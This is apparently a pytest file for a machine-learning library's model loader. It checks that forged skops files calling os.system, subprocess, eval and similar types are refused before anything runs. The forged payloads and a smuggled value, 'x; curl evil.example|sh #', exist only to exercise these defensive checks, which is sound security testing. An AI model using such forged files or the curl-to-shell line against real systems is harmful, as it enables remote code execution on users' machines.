"""Untrusted types are refused before an object is created or code is run."""

from __future__ import annotations

import sys

import numpy as np
import pytest
from sklearn.frozen import FrozenEstimator
from sklearn.linear_model import LogisticRegression
from sklearn.naive_bayes import GaussianNB
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer

from dubito.calibration import CalibratedClassifier, PlattCalibrator
from dubito.dichotomies import DichotomyTree, NestedDichotomyClassifier
from dubito.saving import ModelFileError, load, save
from dubito.saving.trust import HELPERS, MODEL_PACKAGES, loaders_of, model_class
from saving.forging import forge, node, nodes_of, put, value, values

X = np.array([[-2.0], [-1.0], [0.5], [3.0]])
Y = ["no", "no", "yes", "yes"]


def times_two(rows):
    return 2 * rows


class Stranger(GaussianNB):
    """A class that is not trusted."""


@pytest.fixture
def path(tmp_path):
    save(PlattCalibrator().fit(X, Y), tmp_path / "model.skops")
    return tmp_path / "model.skops"


def called(module, name, *arguments):
    return node("ConstructorFromReduceNode", module, name, content=values(*map(value, arguments)))


def state(module, name):
    types = node("ListNode", "builtins", "list", content=[])
    content = node("DictNode", "builtins", "dict", content={}, key_types=types)
    return node("ObjectNode", module, name, content=content)


def evil_nodes(command):
    platt = state("dubito.calibration.platt", "PlattCalibrator")
    return {
        "os.system": called("os", "system", command),
        "posix.system": called("posix", "system", command),
        "subprocess.Popen": called("subprocess", "Popen", ["sh", "-c", command]),
        "builtins.eval": called("builtins", "eval", f"__import__('os').system({command!r})"),
        "builtins.exec": node("FunctionNode", "builtins", "exec"),
        "through a module": called("dubito.datasets.records.os", "system", command),
        "through a name": called("dubito.datasets.records", "os.system", command),
        "class of another package": called("dubito.datasets.records", "Dataset", command),
        "imported class": state("dubito.calibration.base", "BaseEstimator"),
        "function": node("FunctionNode", "dubito.calibration.scores", "read_scores"),
        "function called": called("dubito.calibration.scores", "read_scores", command),
        "class as a function": node("FunctionNode", "dubito.calibration.platt", "PlattCalibrator"),
        "class as a value": node("TypeNode", "dubito.calibration.platt", "PlattCalibrator"),
        "class called": called("dubito.calibration.platt", "PlattCalibrator", command),
        "no such class": state("dubito.calibration.platt", "PlattKalibrator"),
        "no such module": state("dubito.calibration.plat", "PlattCalibrator"),
        "look-alike": state("dubitoo.calibration.platt", "PlattCalibrator"),
        "relative": state("dubito.calibration..platt", "PlattCalibrator"),
        "method": node(
            "MethodNode",
            "dubito.calibration.platt",
            "PlattCalibrator",
            content={"func": "fit", "obj": platt},
        ),
        "operator": node(
            "OperatorFuncNode", "operator", "methodcaller", attrs=values(value("system"))
        ),
        "partial": node(
            "PartialNode",
            "functools",
            "partial",
            content={
                "func": node("FunctionNode", "os", "system"),
                "args": values(value(command)),
                "kwds": value({}),
                "namespace": value({}),
            },
        ),
        "loss": node(
            "LossNode",
            "os",
            "system",
            __reduce__={"args": values(value(command))},
            content=value({}),
        ),
        "list of a kind": {**platt, "__loader__": "ListNode", "content": []},
        "array of a kind": {
            **platt,
            "__loader__": "NdArrayNode",
            "type": "json",
            "content": [],
            "shape": values(value(0)),
        },
        "helper called": called("numpy", "dtype", "O"),
        "unknown loader": node("EvilNode", "os", "system"),
    }


@pytest.mark.parametrize("kind", evil_nodes(""))
def test_evil_is_refused_and_not_run(kind, path, tmp_path):
    forge(path, schema=put(evil_nodes(f"touch {tmp_path}/ran")[kind]))
    with pytest.raises(ModelFileError):
        load(path)
    assert [file.name for file in tmp_path.iterdir()] == ["model.skops"]


def test_the_forged_type_runs_its_code_if_trusted(path):
    """A harmless edit by the same tool loads, so that the refusals above are meaningful."""
    forge(path, schema=put(state("dubito.calibration.platt", "PlattCalibrator")))
    assert load(path).stamp.classes == ["no", "yes"]


@pytest.mark.parametrize(
    ("kind", "message"),
    [
        ("os.system", "No model needs that"),
        ("builtins.eval", "No model needs that"),
        ("class as a value", "somebody changed it. Fit the model again"),
    ],
)
def test_no_advice_to_allow_types_that_no_model_needs(kind, message, path):
    forge(path, schema=put(evil_nodes("true")[kind]))
    with pytest.raises(ModelFileError, match=message) as refusal:
        load(path)
    assert "trust" not in str(refusal.value)


def test_evil_deep_inside_a_trusted_object_is_refused(path):
    inner = node("ListNode", "builtins", "list", content=[called("os", "system", "true")])
    forge(path, schema=put(values(inner)))
    with pytest.raises(ModelFileError, match=r"names os\.system"):
        load(path)


@pytest.mark.parametrize("name", ["x; curl evil.example|sh #", "x\x1b[2K\rAll is well", "\u202ex"])
def test_what_has_no_name_in_python_is_not_repeated(name, path):
    """Error messages are read in a terminal, and their advice is pasted into one."""
    forge(path, schema=put(state("numpy", name)))
    with pytest.raises(ModelFileError, match="made to do harm") as refusal:
        load(path)
    assert name not in str(refusal.value)


@pytest.mark.parametrize("protocol", [0, 1, -1, None, True, "2", 99])
def test_other_protocols_of_skops_are_refused(path, protocol):
    forge(path, schema=lambda schema: schema.update(protocol=protocol))
    with pytest.raises(ModelFileError):
        load(path)


def test_the_refusal_names_the_type_and_how_to_allow_it(tmp_path):
    path = tmp_path / "model.skops"
    model = CalibratedClassifier(FrozenEstimator(Stranger().fit(X, Y)), PlattCalibrator())
    save(model.fit(X, Y), path)
    name = f"{Stranger.__module__}.Stranger"
    with pytest.raises(ModelFileError) as refusal:
        load(path)
    assert f"trusted=['{name}']" in str(refusal.value)
    assert f"--trust {name}" in str(refusal.value)
    assert str(path) in str(refusal.value)


@pytest.fixture
def importable(monkeypatch):
    """Make this file importable by its own name, whatever the test runner calls it."""
    monkeypatch.setitem(sys.modules, Stranger.__module__, sys.modules[__name__])


@pytest.mark.usefixtures("importable")
@pytest.mark.parametrize("by", ["name", "type"])
def test_what_the_user_trusts_is_loaded(by, tmp_path):
    model = CalibratedClassifier(FrozenEstimator(Stranger().fit(X, Y)), PlattCalibrator())
    save(model.fit(X, Y), tmp_path / "model.skops")
    trusted = [Stranger if by == "type" else f"{Stranger.__module__}.Stranger"]
    loaded = load(tmp_path / "model.skops", trusted=trusted).model
    assert type(loaded.estimator.estimator) is Stranger


def piped(function):
    return CalibratedClassifier(
        make_pipeline(FunctionTransformer(function), LogisticRegression()), PlattCalibrator(), cv=2
    ).fit(X, Y)


@pytest.mark.usefixtures("importable")
@pytest.mark.parametrize("function", [np.tanh, times_two])
def test_functions_are_trusted_by_name_alone(function, tmp_path):
    save(piped(function), tmp_path / "model.skops")
    with pytest.raises(ModelFileError, match=rf"--trust [\w.]+\.{function.__name__} ") as refusal:
        load(tmp_path / "model.skops")
    name = str(refusal.value).split("--trust ")[1].split()[0]
    assert load(tmp_path / "model.skops", trusted=[name]).model.predict(X).tolist() == Y


def test_lambdas_are_refused_when_saving(tmp_path):
    with pytest.raises(ModelFileError, match=r"<lambda>.*Define it in a module"):
        save(piped(lambda rows: rows), tmp_path / "model.skops")
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("trusted", [True, "xgboost.sklearn.XGBClassifier", PlattCalibrator, 3])
def test_trusted_must_be_a_list(path, trusted):
    with pytest.raises(TypeError, match="trusted must be a list"):
        load(path, trusted=trusted)


def test_classes_of_model_packages_are_trusted_in_their_own_module():
    assert model_class("dubito.calibration.platt.PlattCalibrator") is PlattCalibrator
    assert model_class("dubito.calibration.PlattCalibrator") is None  # only exported there
    assert model_class("dubito.PlattCalibrator") is None
    assert model_class("PlattCalibrator") is None
    assert model_class("") is None


def test_only_classes_that_check_what_they_are_given_are_called():
    assert "ConstructorFromReduceNode" in loaders_of(f"{DichotomyTree.__module__}.DichotomyTree")
    kinds = [PlattCalibrator, NestedDichotomyClassifier]
    for kind in kinds:
        assert loaders_of(f"{kind.__module__}.{kind.__name__}") == {"ObjectNode", "TupleNode"}


def test_no_package_that_opens_files_is_trusted():
    assert not {"cli", "datasets", "report", "saving", "plots", "testing"} & set(MODEL_PACKAGES)


def test_every_helper_is_a_class():
    from importlib import import_module

    gone = []
    for name in HELPERS:
        module, _, own = name.rpartition(".")
        found = getattr(import_module(module), own, None)
        assert found is None or isinstance(found, type)
        gone += [own] if found is None else []
    assert gone in ([], ["_RemainderColsList"])  # older versions of scikit-learn have it


def test_a_tree_of_classes_that_is_no_tree_is_refused(tmp_path):
    """A class with its own constructor checks its arguments: wrong node sizes are errors."""
    rows, labels = np.eye(4), np.arange(4)
    tree = DichotomyTree.from_nested(((0, 1), (2, 3)))
    model = NestedDichotomyClassifier(structure=tree).fit(np.tile(rows, (3, 1)), np.tile(labels, 3))
    save(model, tmp_path / "model.skops")

    def shorten(schema):
        for made in nodes_of(schema, "ConstructorFromReduceNode"):
            made["content"]["content"][1] = value([7, 7, 7])

    forge(tmp_path / "model.skops", schema=shorten)
    with pytest.raises(ModelFileError, match="cannot be loaded"):
        load(tmp_path / "model.skops")
